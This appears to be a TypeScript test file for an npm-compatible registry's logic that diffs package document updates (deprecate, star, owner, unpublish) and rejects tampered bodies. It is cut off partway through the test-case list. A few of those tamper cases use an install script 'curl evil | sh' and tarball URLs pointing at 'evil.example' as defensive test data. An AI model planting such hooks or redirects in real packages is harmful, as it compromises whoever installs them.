/**
 * `diffUpdate`, `needsMaintainer` and `isEmpty` (src/registry/update.ts): the diff of a document
 * write without attachments (`PUT /:name`, `PUT /:name/-rev/:rev`) against the stored state.
 *
 * The bodies are built the way npm 11 builds them (node_modules/npm), from the document a
 * `GET /<name>?write=true` returns, then sent through JSON as on the wire:
 * - `npm deprecate <name>@<range> <msg>` (lib/commands/deprecate.js): the whole packument, with
 *   `versions[v].deprecated = msg` on every version the range matches (prereleases included);
 *   `msg === ""` undeprecates.
 * - `npm star` / `npm unstar` (lib/commands/star.js): `{ _id, _rev, users }`, `users` being the
 *   document's `users` (or `{}`) with the caller's entry set to `true` or deleted.
 * - `npm owner add/rm` (lib/commands/owner.js): `PUT /<name>/-rev/<rev>` with
 *   `{ _id, _rev, maintainers }`, the document's `{ name, email }` list plus the user document of
 *   `/-/user/org.couchdb.user:<user>`, or minus that user (npm itself refuses to remove the last one).
 * - `npm unpublish <name>@<version>` (libnpmpublish lib/unpublish.js): `PUT /<name>/-rev/<rev>`
 *   with the whole packument minus that version, its dist-tags removed or `latest` moved, and
 *   `_revisions`/`_attachments` deleted.
 *
 * Covered: each of those bodies and its variants (ranges, same message, undeprecate, star already
 * set, other users' stars, owner lists reordered or repeated, strings instead of objects, several
 * versions removed, every version removed, no maintainer left); bodies that change anything else
 * (`dist`, tarball URLs, `time`, `_npmUser`, `readme`, `dist-tags`, a version that is not stored),
 * which give an empty plan; `_rev` checks (REV_CONFLICT); purity; `needsMaintainer`/`isEmpty`.
 * Plans are compared whole: absent `star`/`maintainers`/`invalid` keys must be absent.
 */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import semver from 'semver'
import { RegistryError } from '../../src/registry/errors.js'
import { diffUpdate, isEmpty, needsMaintainer, type UpdateBase, type UpdatePlan } from '../../src/registry/update.js'

const NAME = 'left-pad'
const BASE_URL = 'http://127.0.0.1:4873'
/** `_rev` stored now (`<seq>-<hex>`, as `revOf` writes it). */
const REV = '7-9f86d081884c7d65'
/** A `_rev` from before the last write. */
const PAST_REV = '6-2c26b46b68ffc68f'
const DEPRECATED_2 = 'Use 3.x: 2.0.0 breaks on Node 20'

/** What `plan.invalid` says (update.ts). */
const ALL_VERSIONS_GONE = 'Cannot remove every version this way: unpublish the whole package instead.'
const NO_MAINTAINER_LEFT = 'A package must keep at least one maintainer.'

/** Live versions in stored (semver) order; 2.0.0 is deprecated. */
const LIVE: UpdateBase['live'] = [
  { version: '1.0.0', deprecated: undefined },
  { version: '1.1.0', deprecated: undefined },
  { version: '2.0.0', deprecated: DEPRECATED_2 },
  { version: '3.0.0-rc.1', deprecated: undefined },
  { version: '3.0.0', deprecated: undefined },
]
const VERSIONS = ['1.0.0', '1.1.0', '2.0.0', '3.0.0-rc.1', '3.0.0']

/** The writer: a maintainer who has not starred the package. */
const ALICE = 'alice'

/** Stored state: maintainers alice and bob, stars from bob and carol. */
function base(over: Partial<UpdateBase> = {}): UpdateBase {
  return { rev: REV, live: LIVE, stars: ['bob', 'carol'], maintainers: ['alice', 'bob'], ...over }
}

interface Person {
  name: string
  email?: string
}
type VersionDoc = {
  _id: string
  name: string
  version: string
  deprecated?: string
  dist: { shasum: string; integrity: string; tarball: string; fileCount: number; unpackedSize: number }
  _npmUser: Person
  maintainers: Person[]
  [key: string]: unknown
}
/** The document `GET /<name>?write=true` returns (a type alias, so it is a `Record<string, unknown>`). */
type Doc = {
  _id: string
  _rev: string
  name: string
  description: string
  'dist-tags': Record<string, string>
  versions: Record<string, VersionDoc>
  time: Record<string, string>
  maintainers: Person[]
  users?: Record<string, boolean>
  readme: string
  readmeFilename: string
  [key: string]: unknown
}
type Body = Record<string, unknown>

const person = (name: string): Person => ({ name, email: `${name}@example.com` })
const hex = (seed: string, n: number): string => Buffer.from(seed.repeat(n)).toString('hex').slice(0, n)

/** The document of `stored`, as Pier renders it for `?write=true` (`users` only when someone starred). */
function packument(stored: UpdateBase = base()): Doc {
  const versions: Record<string, VersionDoc> = {}
  const time: Record<string, string> = { created: '2024-01-01T00:00:00.000Z', modified: '2024-06-01T00:00:00.000Z' }
  let day = 1
  for (const v of stored.live ?? []) {
    versions[v.version] = {
      _id: `${NAME}@${v.version}`,
      name: NAME,
      version: v.version,
      main: 'index.js',
      dependencies: { 'is-number': '^7.0.0' },
      ...(v.deprecated !== undefined ? { deprecated: v.deprecated } : {}),
      dist: {
        shasum: hex(v.version, 40),
        integrity: `sha512-${Buffer.from(hex(v.version, 64)).toString('base64')}`,
        tarball: `${BASE_URL}/${NAME}/-/${NAME}-${v.version}.tgz`,
        fileCount: 3,
        unpackedSize: 1024,
      },
      _npmUser: person('alice'),
      maintainers: stored.maintainers.map(person),
    }
    time[v.version] = `2024-0${Math.min(day++, 9)}-01T00:00:00.000Z`
  }
  const doc: Doc = {
    _id: NAME,
    _rev: stored.rev,
    name: NAME,
    description: 'String left pad',
    'dist-tags': { latest: '3.0.0', next: '3.0.0-rc.1' },
    versions,
    time,
    maintainers: stored.maintainers.map(person),
    readme: '# left-pad\n',
    readmeFilename: 'README.md',
  }
  if (stored.stars && stored.stars.length > 0) doc.users = Object.fromEntries(stored.stars.map((u) => [u, true]))
  return doc
}

/** A deep copy of `doc` (npm edits the document it fetched). */
const copy = <T>(doc: T): T => structuredClone(doc)
/** What the registry parses from the request body. */
const wire = (body: unknown): Body => JSON.parse(JSON.stringify(body)) as Body

function version(doc: Doc, v: string): VersionDoc {
  const m = doc.versions[v]
  assert.ok(m, `fixture has no version ${v}`)
  return m
}

/** `npm deprecate <name>@<range> <msg>` (lib/commands/deprecate.js). */
function npmDeprecate(doc: Doc, range: string, msg: string): Body {
  const body = copy(doc)
  const matched = Object.keys(body.versions).filter((v) => semver.satisfies(v, range, { includePrerelease: true }))
  assert.ok(matched.length > 0, `range ${range} matches no version`)
  for (const v of matched) version(body, v).deprecated = msg
  return wire(body)
}

/** `npm star <name>` (lib/commands/star.js). */
function npmStar(doc: Doc, user: string): Body {
  const users: Record<string, boolean> = { ...(doc.users ?? {}) }
  users[user] = true
  return wire({ _id: doc._id, _rev: doc._rev, users })
}

/** `npm unstar <name>` (lib/commands/star.js). */
function npmUnstar(doc: Doc, user: string): Body {
  const users: Record<string, boolean> = { ...(doc.users ?? {}) }
  delete users[user]
  return wire({ _id: doc._id, _rev: doc._rev, users })
}

/** The user document `GET /-/user/org.couchdb.user:<name>` returns (AuthService.userDoc). */
const userDoc = (name: string): Record<string, string> => ({ _id: `org.couchdb.user:${name}`, name, email: `${name}@example.com`, type: 'user' })

/** `npm owner add <user> <name>` (lib/commands/owner.js). */
function npmOwnerAdd(doc: Doc, user: string): Body {
  return wire({ _id: doc._id, _rev: doc._rev, maintainers: [...doc.maintainers, userDoc(user)] })
}

/** `npm owner rm <user> <name>` (lib/commands/owner.js). */
function npmOwnerRm(doc: Doc, user: string): Body {
  return wire({ _id: doc._id, _rev: doc._rev, maintainers: doc.maintainers.filter((o) => o.name !== user) })
}

/** `npm unpublish <name>@<version>` of one version among several (libnpmpublish lib/unpublish.js). */
function npmUnpublishVersion(doc: Doc, v: string): Body {
  const pkg = copy(doc)
  assert.ok(pkg.versions[v], `fixture has no version ${v}`)
  delete pkg.versions[v]
  const latest = pkg['dist-tags'].latest
  for (const tag of Object.keys(pkg['dist-tags'])) if (pkg['dist-tags'][tag] === v) delete pkg['dist-tags'][tag]
  if (latest === v) {
    const rest = Object.keys(pkg.versions).sort(semver.compareLoose).pop()
    if (rest !== undefined) pkg['dist-tags'].latest = rest
  }
  delete pkg._revisions
  delete pkg._attachments
  return wire(pkg)
}

/** The whole packument sent back unchanged, but for `edit`. */
function edited(edit: (doc: Doc) => void, stored: UpdateBase = base()): Body {
  const doc = copy(packument(stored))
  edit(doc)
  return wire(doc)
}

const plan = (p: Partial<UpdatePlan> = {}): UpdatePlan => ({ deprecations: [], unpublish: [], ...p })

function assertEmptyPlan(p: UpdatePlan): void {
  assert.deepEqual(p, { deprecations: [], unpublish: [] })
  assert.equal(isEmpty(p), true)
  assert.equal(needsMaintainer(p), false)
}

function throwsRevConflict(fn: () => unknown): void {
  assert.throws(fn, (e: unknown) => {
    assert.ok(e instanceof RegistryError, `expected a RegistryError, got ${String(e)}`)
    assert.equal(e.code, 'REV_CONFLICT')
    assert.equal(e.message, 'Document update conflict.')
    return true
  })
}

function deepFreeze<T>(v: T): T {
  if (typeof v === 'object' && v !== null) {
    for (const k of Object.keys(v)) deepFreeze((v as Record<string, unknown>)[k])
    Object.freeze(v)
  }
  return v
}

void describe('diffUpdate: the fixture', () => {
  void test('the whole packument sent back unchanged gives an empty plan', () => {
    assertEmptyPlan(diffUpdate(base(), wire(packument()), ALICE))
  })

  void test('an unchanged packument with no users key (nobody starred) gives an empty plan', () => {
    const stored = base({ stars: [] })
    const body = wire(packument(stored))
    assert.equal('users' in body, false)
    assertEmptyPlan(diffUpdate(stored, body, ALICE))
  })
})

void describe('diffUpdate: npm deprecate', () => {
  void test('deprecating one version: one deprecation with the message, nothing else', () => {
    const p = diffUpdate(base(), npmDeprecate(packument(), '1.0.0', 'Critical bug, use 1.1.0'), ALICE)
    assert.deepEqual(p, plan({ deprecations: [{ version: '1.0.0', message: 'Critical bug, use 1.1.0' }] }))
    assert.equal(needsMaintainer(p), true)
    assert.equal(isEmpty(p), false)
  })

  const ranges: { range: string; msg: string; want: UpdatePlan['deprecations'] }[] = [
    {
      range: '<2.0.0',
      msg: 'Upgrade to 3.x',
      want: [
        { version: '1.0.0', message: 'Upgrade to 3.x' },
        { version: '1.1.0', message: 'Upgrade to 3.x' },
      ],
    },
    {
      range: '1.x || 3.0.0-rc.1',
      msg: 'old',
      want: [
        { version: '1.0.0', message: 'old' },
        { version: '1.1.0', message: 'old' },
        { version: '3.0.0-rc.1', message: 'old' },
      ],
    },
    {
      range: '*',
      msg: DEPRECATED_2,
      // 2.0.0 already has this message: unchanged, not repeated.
      want: [
        { version: '1.0.0', message: DEPRECATED_2 },
        { version: '1.1.0', message: DEPRECATED_2 },
        { version: '3.0.0-rc.1', message: DEPRECATED_2 },
        { version: '3.0.0', message: DEPRECATED_2 },
      ],
    },
    {
      range: '>=2.0.0',
      msg: 'Unmaintained',
      // includes the prerelease, as npm does (includePrerelease), and changes 2.0.0's message
      want: [
        { version: '2.0.0', message: 'Unmaintained' },
        { version: '3.0.0-rc.1', message: 'Unmaintained' },
        { version: '3.0.0', message: 'Unmaintained' },
      ],
    },
  ]
  for (const { range, msg, want } of ranges) {
    void test(`deprecating the range "${range}": one deprecation per changed version, in stored order`, () => {
      assert.deepEqual(diffUpdate(base(), npmDeprecate(packument(), range, msg), ALICE), plan({ deprecations: want }))
    })
  }

  void test('re-deprecating with the same message: no change', () => {
    assertEmptyPlan(diffUpdate(base(), npmDeprecate(packument(), '2.0.0', DEPRECATED_2), ALICE))
  })

  void test('changing the message of a deprecated version: the new message', () => {
    assert.deepEqual(
      diffUpdate(base(), npmDeprecate(packument(), '2.0.0', 'Use 3.0.0'), ALICE),
      plan({ deprecations: [{ version: '2.0.0', message: 'Use 3.0.0' }] }),
    )
  })

  void test('undeprecating ("") a deprecated version: a deprecation with message undefined', () => {
    const p = diffUpdate(base(), npmDeprecate(packument(), '2.0.0', ''), ALICE)
    assert.deepEqual(p, plan({ deprecations: [{ version: '2.0.0', message: undefined }] }))
    assert.equal(needsMaintainer(p), true)
  })

  void test('undeprecating ("") every version: only the deprecated one changes', () => {
    assert.deepEqual(
      diffUpdate(base(), npmDeprecate(packument(), '*', ''), ALICE),
      plan({ deprecations: [{ version: '2.0.0', message: undefined }] }),
    )
  })

  void test('"" on a version that is not deprecated: no change', () => {
    assertEmptyPlan(diffUpdate(base(), npmDeprecate(packument(), '1.0.0', ''), ALICE))
  })

  void test('a deprecated version whose body entry has no deprecated key: no change (not an undeprecate)', () => {
    const body = edited((d) => delete version(d, '2.0.0').deprecated)
    assertEmptyPlan(diffUpdate(base(), body, ALICE))
  })

  const notStrings: [string, unknown][] = [
    ['null', null],
    ['false', false],
    ['true', true],
    ['0', 0],
    ['an object', { message: 'x' }],
    ['an array', ['x']],
  ]
  for (const [label, value] of notStrings) {
    void test(`a deprecated key that is ${label}, not a string: no change on a deprecated or an undeprecated version`, () => {
      const body = edited((d) => {
        version(d, '1.0.0').deprecated = value as string
        version(d, '2.0.0').deprecated = value as string
      })
      assertEmptyPlan(diffUpdate(base(), body, ALICE))
    })
  }

  void test('a version entry that is not an object (null, a string, an array): no change, and not an unpublish', () => {
    const body = edited((d) => {
      d.versions['1.0.0'] = null as unknown as VersionDoc
      d.versions['2.0.0'] = 'deprecated' as unknown as VersionDoc
      d.versions['3.0.0'] = [] as unknown as VersionDoc
    })
    assertEmptyPlan(diffUpdate(base(), body, ALICE))
  })

  void test('deprecations come in stored version order whatever the order of the body’s versions', () => {
    const doc = packument()
    const body = npmDeprecate(doc, '*', 'All old')
    const reversed = Object.fromEntries(Object.entries(body.versions as Record<string, unknown>).reverse())
    assert.deepEqual(Object.keys(reversed), [...VERSIONS].reverse())
    assert.deepEqual(
      diffUpdate(base(), { ...body, versions: reversed }, ALICE).deprecations.map((d) => d.version),
      ['1.0.0', '1.1.0', '2.0.0', '3.0.0-rc.1', '3.0.0'],
    )
  })

  void test('a deprecate body whose dist-tags, time and readme also differ: only the deprecation', () => {
    const body = edited((d) => {
      version(d, '1.1.0').deprecated = 'msg'
      d['dist-tags'].latest = '1.1.0'
      d.time.modified = '2030-01-01T00:00:00.000Z'
      d.readme = 'changed'
    })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ deprecations: [{ version: '1.1.0', message: 'msg' }] }))
  })
})

void describe('diffUpdate: npm star / unstar', () => {
  void test('star: the writer added to users → star: true, no maintainer needed', () => {
    const body = npmStar(packument(), ALICE)
    assert.deepEqual(body.users, { bob: true, carol: true, alice: true })
    const p = diffUpdate(base(), body, ALICE)
    assert.deepEqual(p, plan({ star: true }))
    assert.equal(needsMaintainer(p), false)
    assert.equal(isEmpty(p), false)
  })

  void test('star on a package nobody starred (npm sends users: {writer: true}) → star: true', () => {
    const stored = base({ stars: [] })
    assert.deepEqual(diffUpdate(stored, npmStar(packument(stored), ALICE), ALICE), plan({ star: true }))
  })

  void test('star by a user who is not a maintainer → star: true, no maintainer needed', () => {
    const p = diffUpdate(base(), npmStar(packument(), 'mallory'), 'mallory')
    assert.deepEqual(p, plan({ star: true }))
    assert.equal(needsMaintainer(p), false)
  })

  void test('unstar: the writer missing from users while stored has them → star: false', () => {
    const stored = base({ stars: ['alice', 'bob', 'carol'] })
    const body = npmUnstar(packument(stored), ALICE)
    assert.deepEqual(body.users, { bob: true, carol: true })
    const p = diffUpdate(stored, body, ALICE)
    assert.deepEqual(p, plan({ star: false }))
    assert.equal(needsMaintainer(p), false)
    assert.equal(isEmpty(p), false)
  })

  void test('unstar of the only star (npm sends users: {}) → star: false', () => {
    const stored = base({ stars: ['alice'] })
    assert.deepEqual(diffUpdate(stored, npmUnstar(packument(stored), ALICE), ALICE), plan({ star: false }))
  })

  void test('star when already starred: no change', () => {
    const stored = base({ stars: ['alice', 'bob'] })
    assertEmptyPlan(diffUpdate(stored, npmStar(packument(stored), ALICE), ALICE))
  })

  void test('unstar when not starred: no change', () => {
    assertEmptyPlan(diffUpdate(base(), npmUnstar(packument(), ALICE), ALICE))
  })

  const others: { name: string; stars: string[]; users: Record<string, unknown>; want: UpdatePlan }[] = [
    { name: 'adds other users, writer not starred', stars: ['bob'], users: { bob: true, mallory: true, eve: true }, want: plan() },
    { name: 'removes every other user, writer not starred', stars: ['bob', 'carol'], users: {}, want: plan() },
    { name: 'adds other users, writer starred and kept', stars: ['alice'], users: { alice: true, mallory: true }, want: plan() },
    { name: 'removes other users, writer starred and kept', stars: ['alice', 'bob', 'carol'], users: { alice: true }, want: plan() },
    { name: 'sets other users to false, writer not starred', stars: ['bob', 'carol'], users: { bob: false, carol: false }, want: plan() },
    { name: 'swaps other users and adds the writer', stars: ['bob'], users: { carol: true, alice: true }, want: plan({ star: true }) },
    { name: 'swaps other users and drops the writer', stars: ['alice', 'bob'], users: { carol: true }, want: plan({ star: false }) },
  ]
  for (const c of others) {
    void test(`users that ${c.name}: only the writer’s own entry counts`, () => {
      assert.deepEqual(diffUpdate(base({ stars: c.stars }), wire({ _id: NAME, _rev: REV, users: c.users }), ALICE), c.want)
    })
  }

  const notTrue: [string, unknown][] = [
    ['false', false],
    ['"true"', 'true'],
    ['1', 1],
    ['an object', {}],
    ['null', null],
  ]
  for (const [label, value] of notTrue) {
    void test(`users[writer] set to ${label}, not true: counts as no star (unstar if starred, nothing otherwise)`, () => {
      const body = wire({ _id: NAME, _rev: REV, users: { bob: true, alice: value } })
      assert.deepEqual(diffUpdate(base({ stars: ['alice', 'bob'] }), body, ALICE), plan({ star: false }))
      assertEmptyPlan(diffUpdate(base({ stars: ['bob'] }), body, ALICE))
    })
  }

  void test('a deprecate body carrying everyone’s users: no star change for a writer who has not starred', () => {
    const body = npmDeprecate(packument(), '1.0.0', 'msg')
    assert.deepEqual(body.users, { bob: true, carol: true })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ deprecations: [{ version: '1.0.0', message: 'msg' }] }))
  })

  void test('a deprecate body carrying everyone’s users: no star change for a writer who has starred', () => {
    const body = npmDeprecate(packument(), '1.0.0', 'msg')
    assert.deepEqual(diffUpdate(base(), body, 'bob'), plan({ deprecations: [{ version: '1.0.0', message: 'msg' }] }))
  })

  void test('stored stars omitted: users ignored, even with the writer in it', () => {
    const { stars: _stars, ...stored } = base()
    assertEmptyPlan(diffUpdate(stored, npmStar(packument(), ALICE), ALICE))
  })

  const badUsers: [string, unknown][] = [
    ['an array', ['alice']],
    ['null', null],
    ['a string', 'alice'],
    ['true', true],
  ]
  for (const [label, users] of badUsers) {
    void test(`users that is ${label}, not an object: ignored (no unstar)`, () => {
      assertEmptyPlan(diffUpdate(base({ stars: ['alice'] }), wire({ _id: NAME, _rev: REV, users }), ALICE))
    })
  }

  void test('a writer named like an Object.prototype key is not starred by an empty users', () => {
    for (const writer of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
      assertEmptyPlan(diffUpdate(base({ stars: [] }), wire({ _id: NAME, _rev: REV, users: {} }), writer))
    }
  })

  void test('a writer named __proto__ starring with a JSON body: star: true', () => {
    const body = JSON.parse(`{"_id":"${NAME}","_rev":"${REV}","users":{"__proto__":true}}`) as Body
    assert.deepEqual(diffUpdate(base({ stars: [] }), body, '__proto__'), plan({ star: true }))
  })
})

void describe('diffUpdate: npm owner add / rm', () => {
  void test('owner add with the user document npm sends ({_id, name, email, type}) → the new list, sorted', () => {
    const body = npmOwnerAdd(packument(), 'dave')
    assert.deepEqual(body.maintainers, [person('alice'), person('bob'), userDoc('dave')])
    const p = diffUpdate(base(), body, ALICE)
    assert.deepEqual(p, plan({ maintainers: ['alice', 'bob', 'dave'] }))
    assert.equal(needsMaintainer(p), true)
    assert.equal(isEmpty(p), false)
  })

  void test('owner add given as plain strings → the new list', () => {
    const body = wire({ _id: NAME, _rev: REV, maintainers: ['alice', 'bob', 'dave'] })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ maintainers: ['alice', 'bob', 'dave'] }))
  })

  void test('owner add of a name that sorts first, objects and strings mixed → sorted list', () => {
    const body = wire({ _id: NAME, _rev: REV, maintainers: [person('bob'), 'alice', { name: 'aaron' }] })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ maintainers: ['aaron', 'alice', 'bob'] }))
  })

  void test('owner rm → the list without that user', () => {
    const body = npmOwnerRm(packument(), 'bob')
    assert.deepEqual(body.maintainers, [person('alice')])
    const p = diffUpdate(base(), body, ALICE)
    assert.deepEqual(p, plan({ maintainers: ['alice'] }))
    assert.equal(needsMaintainer(p), true)
  })

  void test('owner rm of the writer themself → the list without the writer', () => {
    assert.deepEqual(diffUpdate(base(), npmOwnerRm(packument(), ALICE), ALICE), plan({ maintainers: ['bob'] }))
  })

  void test('owner add and rm by plain strings on a three-maintainer package', () => {
    const stored = base({ maintainers: ['carol', 'alice', 'bob'] })
    assert.deepEqual(
      diffUpdate(stored, wire({ _rev: REV, maintainers: ['carol', 'dave', 'alice'] }), ALICE),
      plan({ maintainers: ['alice', 'carol', 'dave'] }),
    )
  })

  const same: [string, unknown[]][] = [
    ['the same objects', [person('alice'), person('bob')]],
    ['the same objects in another order', [person('bob'), person('alice')]],
    ['the same names as strings in another order', ['bob', 'alice']],
    ['duplicates', ['alice', 'bob', 'alice', person('bob'), { name: 'bob', email: 'other@example.com' }]],
    ['objects without email', [{ name: 'bob' }, { name: 'alice' }]],
    ['entries without a string name mixed in', [person('alice'), { email: 'x@example.com' }, { name: 42 }, null, 7, 'bob']],
  ]
  for (const [label, maintainers] of same) {
    void test(`maintainers with ${label}: no change`, () => {
      assertEmptyPlan(diffUpdate(base(), wire({ _id: NAME, _rev: REV, maintainers }), ALICE))
    })
  }

  void test('stored maintainers out of order, body sorted: no change', () => {
    assertEmptyPlan(diffUpdate(base({ maintainers: ['bob', 'alice'] }), wire({ _rev: REV, maintainers: ['alice', 'bob'] }), ALICE))
  })

  void test('the new list is deduplicated and sorted', () => {
    const body = wire({ _rev: REV, maintainers: ['dave', person('bob'), 'dave', 'alice', { name: 'bob' }] })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ maintainers: ['alice', 'bob', 'dave'] }))
  })

  void test('removing everyone (maintainers: []) → maintainers [] and invalid set', () => {
    const p = diffUpdate(base(), wire({ _id: NAME, _rev: REV, maintainers: [] }), ALICE)
    assert.deepEqual(p, plan({ maintainers: [], invalid: NO_MAINTAINER_LEFT }))
    assert.equal(needsMaintainer(p), true, 'the maintainer check comes before the 400')
    assert.equal(isEmpty(p), false)
  })

  void test('maintainers with no string name at all count as no maintainer left', () => {
    const p = diffUpdate(base(), wire({ _rev: REV, maintainers: [{ email: 'alice@example.com' }, 42, null] }), ALICE)
    assert.deepEqual(p, plan({ maintainers: [], invalid: NO_MAINTAINER_LEFT }))
  })

  void test('a whole packument (deprecate body) carrying the stored maintainers as objects: no maintainer change', () => {
    const p = diffUpdate(base(), npmDeprecate(packument(), '3.0.0', 'msg'), ALICE)
    assert.deepEqual(p, plan({ deprecations: [{ version: '3.0.0', message: 'msg' }] }))
  })

  const notArrays: [string, unknown][] = [
    ['an object', { alice: true }],
    ['a string', 'alice'],
    ['null', null],
  ]
  for (const [label, maintainers] of notArrays) {
    void test(`maintainers that is ${label}, not an array: ignored`, () => {
      assertEmptyPlan(diffUpdate(base(), wire({ _rev: REV, maintainers }), ALICE))
    })
  }

  void test('an owner body has no versions and no users: no unpublish and no star change', () => {
    const body = npmOwnerAdd(packument(), 'dave')
    assert.equal('versions' in body, false)
    assert.equal('users' in body, false)
    assert.deepEqual(diffUpdate(base({ stars: ['alice'] }), body, ALICE), plan({ maintainers: ['alice', 'bob', 'dave'] }))
  })
})

void describe('diffUpdate: per-version unpublish', () => {
  void test('the whole document minus one version → unpublish that version', () => {
    const body = npmUnpublishVersion(packument(), '1.1.0')
    assert.equal(body._rev, REV)
    const p = diffUpdate(base(), body, ALICE)
    assert.deepEqual(p, plan({ unpublish: ['1.1.0'] }))
    assert.equal(needsMaintainer(p), true)
    assert.equal(isEmpty(p), false)
  })

  void test('minus the latest version (npm moves latest in dist-tags) → unpublish it, the dist-tags change ignored', () => {
    const body = npmUnpublishVersion(packument(), '3.0.0')
    assert.deepEqual(body['dist-tags'], { latest: '3.0.0-rc.1', next: '3.0.0-rc.1' })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ unpublish: ['3.0.0'] }))
  })

  void test('minus a deprecated version → an unpublish, not an undeprecate', () => {
    assert.deepEqual(diffUpdate(base(), npmUnpublishVersion(packument(), '2.0.0'), ALICE), plan({ unpublish: ['2.0.0'] }))
  })

  void test('minus several versions → each one, in stored order whatever the body’s order', () => {
    const body = edited((d) => {
      delete d.versions['3.0.0']
      delete d.versions['1.0.0']
      delete d.versions['2.0.0']
      d.versions = Object.fromEntries(Object.entries(d.versions).reverse())
    })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ unpublish: ['1.0.0', '2.0.0', '3.0.0'] }))
  })

  void test('minus every live version but one → unpublish them, valid', () => {
    const body = edited((d) => (d.versions = { '3.0.0': version(d, '3.0.0') }))
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ unpublish: ['1.0.0', '1.1.0', '2.0.0', '3.0.0-rc.1'] }))
  })

  void test('minus every live version (versions: {}) → all of them and invalid set', () => {
    const p = diffUpdate(base(), edited((d) => (d.versions = {})), ALICE)
    assert.deepEqual(p, plan({ unpublish: VERSIONS, invalid: ALL_VERSIONS_GONE }))
    assert.equal(needsMaintainer(p), true, 'the maintainer check comes before the 400')
  })

  void test('minus the only live version → invalid set (npm would DELETE the package instead)', () => {
    const stored = base({ live: [{ version: '1.0.0', deprecated: undefined }] })
    const p = diffUpdate(stored, edited((d) => (d.versions = {}), stored), ALICE)
    assert.deepEqual(p, plan({ unpublish: ['1.0.0'], invalid: ALL_VERSIONS_GONE }))
  })

  void test('minus every live version, with a version that is not stored left in: still invalid', () => {
    const body = edited((d) => {
      const extra = { ...version(d, '3.0.0'), version: '9.9.9', _id: `${NAME}@9.9.9` }
      d.versions = { '9.9.9': extra }
    })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ unpublish: VERSIONS, invalid: ALL_VERSIONS_GONE }))
  })

  void test('every version removed and no maintainer left: invalid names the versions (first reason kept)', () => {
    const body = edited((d) => {
      d.versions = {}
      d.maintainers = []
    })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ unpublish: VERSIONS, maintainers: [], invalid: ALL_VERSIONS_GONE }))
  })

  void test('a body with no versions key at all (star, owner): no unpublish', () => {
    const body = edited((d) => delete (d as Partial<Doc>).versions)
    assertEmptyPlan(diffUpdate(base(), body, ALICE))
    assertEmptyPlan(diffUpdate(base(), wire({ _id: NAME, _rev: REV }), ALICE))
  })

  const badVersions: [string, unknown][] = [
    ['null', null],
    ['an array', []],
    ['a string', '1.0.0'],
    ['a number', 0],
  ]
  for (const [label, versions] of badVersions) {
    void test(`versions that is ${label}, not an object: ignored (no unpublish of everything)`, () => {
      assertEmptyPlan(diffUpdate(base(), edited((d) => (d.versions = versions as Doc['versions'])), ALICE))
    })
  }

  void test('stored live omitted: no version diff even if the body has versions missing and deprecated', () => {
    const { live: _live, ...stored } = base()
    const body = edited((d) => {
      delete d.versions['1.0.0']
      version(d, '1.1.0').deprecated = 'msg'
      version(d, '2.0.0').deprecated = ''
    })
    assertEmptyPlan(diffUpdate(stored, body, ALICE))
    assertEmptyPlan(diffUpdate(stored, edited((d) => (d.versions = {})), ALICE))
  })

  void test('stored live empty, body versions empty: nothing to unpublish, not invalid', () => {
    assertEmptyPlan(diffUpdate(base({ live: [] }), edited((d) => (d.versions = {})), ALICE))
  })

  void test('minus one version and another deprecated in the same body: both reported', () => {
    const body = edited((d) => {
      delete d.versions['1.0.0']
      version(d, '3.0.0').deprecated = 'msg'
    })
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ deprecations: [{ version: '3.0.0', message: 'msg' }], unpublish: ['1.0.0'] }))
  })
})

void describe('diffUpdate: bodies that change something else give an empty plan', () => {
  const cases: { name: string; edit: (d: Doc) => void }[] = [
    { name: 'another version’s dist.shasum', edit: (d) => (version(d, '1.0.0').dist.shasum = 'da39a3ee5e6b4b0d3255bfef95601890afd80709') },
    { name: 'another version’s dist.integrity', edit: (d) => (version(d, '1.1.0').dist.integrity = 'sha512-AAAA') },
    { name: 'a tarball URL (another host)', edit: (d) => (version(d, '3.0.0').dist.tarball = 'https://evil.example/left-pad-3.0.0.tgz') },
    { name: 'every tarball URL', edit: (d) => Object.values(d.versions).forEach((m) => (m.dist.tarball = `https://evil.example/${m.version}.tgz`)) },
    { name: 'dist.fileCount and unpackedSize', edit: (d) => Object.assign(version(d, '2.0.0').dist, { fileCount: 1, unpackedSize: 1 }) },
    { name: 'the whole dist of a version removed', edit: (d) => delete (version(d, '1.0.0') as Partial<VersionDoc>).dist },
    { name: 'time.modified and time.created', edit: (d) => Object.assign(d.time, { created: '1999-01-01T00:00:00.000Z', modified: '2099-01-01T00:00:00.000Z' }) },
    { name: 'a version’s publish time', edit: (d) => (d.time['1.0.0'] = '2099-01-01T00:00:00.000Z') },
    { name: 'time removed', edit: (d) => delete (d as Partial<Doc>).time },
    { name: 'a version’s _npmUser', edit: (d) => (version(d, '1.0.0')._npmUser = person('mallory')) },
    { name: 'a version’s own maintainers list', edit: (d) => (version(d, '1.0.0').maintainers = [person('mallory')]) },
    { name: 'readme', edit: (d) => (d.readme = '# pwned\n') },
    { name: 'readmeFilename', edit: (d) => (d.readmeFilename = 'readme.txt') },
    { name: 'dist-tags latest moved', edit: (d) => (d['dist-tags'].latest = '1.0.0') },
    { name: 'dist-tags added and removed', edit: (d) => (d['dist-tags'] = { latest: '3.0.0', beta: '2.0.0' }) },
    { name: 'description, _id and name', edit: (d) => Object.assign(d, { description: 'x', _id: 'other', name: 'other' }) },
    { name: 'a stored version’s dependencies and scripts', edit: (d) => Object.assign(version(d, '1.0.0'), { dependencies: { evil: '*' }, scripts: { install: 'curl evil | sh' } }) },
    { name: 'a stored version’s version field', edit: (d) => (version(d, '1.0.0').version = '9.0.0') },
    {
      name: 'an extra version that is not stored (not a publish)',
      edit: (d) => (d.versions['4.0.0'] = { ...version(d, '3.0.0'), _id: `${NAME}@4.0.0`, version: '4.0.0', deprecated: 'x' }),
    },
    { name: '_attachments and _revisions', edit: (d) => Object.assign(d, { _attachments: { 'x.tgz': { data: 'AAAA' } }, _revisions: { start: 7, ids: [] } }) },
  ]
